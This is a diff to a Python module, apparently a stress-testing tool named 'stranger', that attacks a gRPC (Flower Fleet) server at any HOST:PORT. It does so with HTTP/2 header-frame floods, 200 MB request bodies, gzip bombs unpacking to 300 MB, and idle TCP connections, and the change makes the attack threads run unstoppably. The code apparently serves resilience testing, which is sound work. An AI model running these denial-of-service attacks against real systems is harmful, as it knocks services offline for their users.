@@ -2,14 +2,15 @@
 
 * `calls`: calls of headers alone, as many at a time as the server lets stand, over connections that are opened anew
   whenever the server closes them;
-* `bodies`: calls that bring 400 MB each;
-* `gzip`: calls that bring half a megabyte each, which unpacks to 500 MB;
+* `bodies`: calls that bring 200 MB each;
+* `gzip`: calls that bring a third of a megabyte each, which unpacks to 300 MB;
 * `silent`: TCP connections that send nothing.
 
     python -m siege.stranger HOST:PORT --ca CA.pem --how calls --seconds 16
 """
 
 import argparse
+import json
 import socket
 import ssl
 import struct
@@ -22,7 +23,7 @@ from pathlib import Path
 
 import grpc
 
-__all__ = ["ATTACKS", "Stranger"]
+__all__ = ["ATTACKS"]
 
 METHODS = ("PullMessages", "PushObject", "ActivateNode", "NoSuchMethod")
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
@@ -31,7 +32,9 @@ END_STREAM, END_HEADERS, ACK = 1, 4, 1
 
 
 class Stranger:
-    """Attacks an address from threads of its own, until it is told to stop.
+    """Attacks an address from threads of its own, as long as the process lives.
+
+    It takes all of Python's time, so it needs a process of its own.
 
     Args:
         address: `HOST:PORT`.
@@ -40,33 +43,26 @@ class Stranger:
         calls: how many a connection opens at a time.
     """
 
-    def __init__(self, address: str, ca: Path | None, connections: int = 2, calls: int = 700) -> None:
+    def __init__(self, address: str, ca: Path | None, connections: int, calls: int) -> None:
         """Do nothing yet."""
         self.address, self._ca, self._connections, self._calls = address, ca, connections, calls
         self.counts: Counter[str] = Counter()
-        self._over = threading.Event()
-        self._threads: list[threading.Thread] = []
 
     def attack(self, how: str) -> None:
         """Begin; returns at once."""
         act = {"calls": self._send_headers, "bodies": self._send_body, "gzip": self._send_bomb, "silent": self._hold}
         for _ in range(self._connections):
-            self._threads.append(threading.Thread(target=self._repeat, args=(act[how],), daemon=True))
-            self._threads[-1].start()
-
-    def stop(self) -> None:
-        """End all of it."""
-        self._over.set()
-        for thread in self._threads:
-            thread.join(10)
+            threading.Thread(target=self._repeat, args=(act[how],), daemon=True).start()
 
     def _repeat(self, act: Callable[[], None]) -> None:
-        while not self._over.is_set():
+        while True:
             self.counts["connections"] += 1
             try:
                 act()
             except (OSError, grpc.RpcError) as error:
                 self.counts[type(error).__name__] += 1
+                if isinstance(error, ConnectionRefusedError):  # nobody is there
+                    time.sleep(0.1)
 
     def _connect(self) -> socket.socket:
         host, _, port = self.address.rpartition(":")
@@ -81,18 +77,15 @@ class Stranger:
 
     def _hold(self) -> None:
         with self._connect() as plain:
-            plain.settimeout(0.5)
-            while not self._over.is_set():
-                with suppress(TimeoutError):
-                    if not plain.recv(1):
-                        return
+            plain.settimeout(None)
+            plain.recv(1)
 
     def _send_headers(self) -> None:
         with self._connect() as plain, self._protect(plain) as link:
             link.sendall(PREFACE + _frame(SETTINGS, 0, 0))
             link.settimeout(0.2)
             stream, is_open, received = 1, set[int](), b""
-            while not self._over.is_set():
+            while True:
                 fresh = range(stream, stream + 2 * max(self._calls - len(is_open), 0), 2)
                 link.sendall(b"".join(_frame(HEADERS, END_HEADERS, each, _headers(each)) for each in fresh))
                 is_open.update(fresh)
@@ -113,7 +106,7 @@ class Stranger:
                         is_open.remove(number)
                         self.counts["refused"] += 1
 
-    def _send_body(self, size: int = 400_000_000, squeeze: grpc.Compression = grpc.Compression.NoCompression) -> None:
+    def _send_body(self, size: int = 200_000_000, squeeze: grpc.Compression = grpc.Compression.NoCompression) -> None:
         options = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
         if self._ca:
             channel = grpc.secure_channel(self.address, grpc.ssl_channel_credentials(self._ca.read_bytes()), options)
@@ -121,13 +114,10 @@ class Stranger:
             channel = grpc.insecure_channel(self.address, options)
         with channel:
             call = channel.unary_unary("/flwr.proto.Fleet/PullMessages")
-            running = call.future(bytes(size), timeout=30, compression=squeeze)
-            while not self._over.wait(0.1) and not running.done():
-                pass
-            running.cancel()
+            call(bytes(size), timeout=30, compression=squeeze)
 
     def _send_bomb(self) -> None:
-        self._send_body(500_000_000, grpc.Compression.Gzip)
+        self._send_body(300_000_000, grpc.Compression.Gzip)
 
 
 def _frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
@@ -159,8 +149,8 @@ if __name__ == "__main__":
     parser.add_argument("--connections", type=int, default=2)
     parser.add_argument("--calls", type=int, default=700)
     args = parser.parse_args()
-    stranger = Stranger(args.address, args.ca, args.connections, args.calls)
+    stranger, end = Stranger(args.address, args.ca, args.connections, args.calls), time.monotonic() + args.seconds
     stranger.attack(args.how)
-    time.sleep(args.seconds)
-    stranger.stop()
-    print(dict(stranger.counts))
+    while (left := end - time.monotonic()) > 0:
+        time.sleep(min(left, 0.5))
+        print(json.dumps(stranger.counts), flush=True)
